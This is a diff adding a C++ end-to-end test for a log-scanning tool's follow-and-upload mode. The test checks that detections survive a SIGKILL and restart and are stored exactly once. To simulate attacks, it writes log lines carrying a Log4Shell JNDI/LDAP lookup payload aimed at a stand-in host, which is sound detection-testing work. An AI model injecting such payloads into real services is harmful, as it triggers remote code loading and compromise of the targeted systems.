@@ -183,4 +183,56 @@ TEST_F(UploadServeE2e, OutageThenTheOutboxIsDeliveredOnce) {
   EXPECT_EQ(reports_in(outbox_), 1u);
 }
 
+
+// hunt --follow --upload: detections reach the store while the follower
+// runs, and a SIGKILL then a restart stores each of them exactly once.
+TEST_F(UploadServeE2e, FollowUploadsBatchesExactlyOnceAcrossAKill) {
+  Serve serve(dir_, db_, port_);
+  const stdfs::path logs = dir_ / "live";
+  stdfs::create_directories(logs);
+  std::ofstream(logs / "access.log") << "";
+  auto detections_stored = [&]() -> int64_t {
+    auto store = l4s::fleet::Store::open(db_);
+    if (!store.ok()) return -1;
+    auto rows = (*store)->db().query("SELECT COUNT(*) FROM detections");
+    return rows.ok() ? std::stoll(*(*rows)[0][0]) : -1;
+  };
+  auto wait_for = [&](int64_t n) {
+    for (int i = 0; i < 200 && detections_stored() < n; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(100));
+    return detections_stored();
+  };
+  auto attack = [&](int i) {
+    std::ofstream(logs / "access.log", std::ios::app)
+        << "10.0.0." << i << " GET /?q=${jndi:ldap://203.0.113.9:1389/x" << i << "} HTTP/1.1\n";
+  };
+  const std::string follow_args = "hunt --follow " + shell_quote(logs.string()) + " --from-start --poll-interval 0.1" +
+                                  " --state " + shell_quote((dir_ / "follow.state").string()) + " -o " +
+                                  shell_quote((dir_ / "detections.jsonl").string()) + " --upload-interval 0.2" +
+                                  upload(all_token_);
+  auto start_follow = [&] {
+    pid_t pid = fork();
+    if (pid == 0) {
+      execl("/bin/sh", "sh", "-c", ("exec " + kBin + " " + follow_args + " 2>" +
+                                    shell_quote((dir_ / "follow.err").string())).c_str(), nullptr);
+      _exit(127);
+    }
+    return pid;
+  };
+  pid_t follower = start_follow();
+  for (int i = 1; i <= 3; ++i) attack(i);
+  EXPECT_EQ(wait_for(3), 3) << slurp((dir_ / "follow.err").string());
+  kill(follower, SIGKILL);
+  waitpid(follower, nullptr, 0);
+  for (int i = 4; i <= 5; ++i) attack(i);
+  follower = start_follow();
+  EXPECT_EQ(wait_for(5), 5) << slurp((dir_ / "follow.err").string());
+  kill(follower, SIGTERM);
+  int status = 0;
+  waitpid(follower, &status, 0);
+  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  EXPECT_EQ(detections_stored(), 5) << "each attempt stored once";
+  EXPECT_EQ(reports_in(outbox_), 0u);
+}
+
 }  // namespace
